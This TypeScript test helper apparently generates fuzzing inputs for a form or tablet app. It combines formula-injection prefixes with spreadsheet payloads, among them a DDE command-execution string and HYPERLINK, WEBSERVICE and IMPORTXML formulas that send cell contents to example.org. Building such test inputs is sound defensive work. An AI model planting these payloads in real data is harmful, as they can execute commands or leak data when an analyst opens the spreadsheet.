// Texts that somebody could type into a tablet to make the spreadsheet of whoever analyses do something.
import { integerBelow, type Random } from './seeded-random.ts'

const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  "'=",
  "''=",
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  ',=',
  ';=',
  '\n=',
  ' =',
  '=-',
  '@@',
  '-1',
  '-9',
  '+1',
  "'-1",
  '',
]
const MIDDLES = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.org?x="&A1,"Click")',
  'WEBSERVICE("http://example.org/"&B2)',
  'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  'DDE("soffice";"a";"b")',
  'école – żółw – مدرسة',
  '🙂 👩‍👩‍👧 said "hello", then\nleft',
  '2-3',
  '1E+05',
  'TRUE',
  '0044',
  '١٢٣',
]

/** So many different ones, each within what a text question takes. */
export function hostileTexts(count: number, random: Random): string[] {
  const texts = new Set<string>()
  while (texts.size < count) {
    const text = `${pick(BEGINNINGS, random)}${pick(MIDDLES, random)}${pick(BEGINNINGS, random)}${pick(MIDDLES, random)} ${integerBelow(random, 100_000)}`
    texts.add(text.trim())
  }
  return [...texts]
}

function pick<Item>(items: readonly Item[], random: Random): Item {
  return items[integerBelow(random, items.length)]!
}
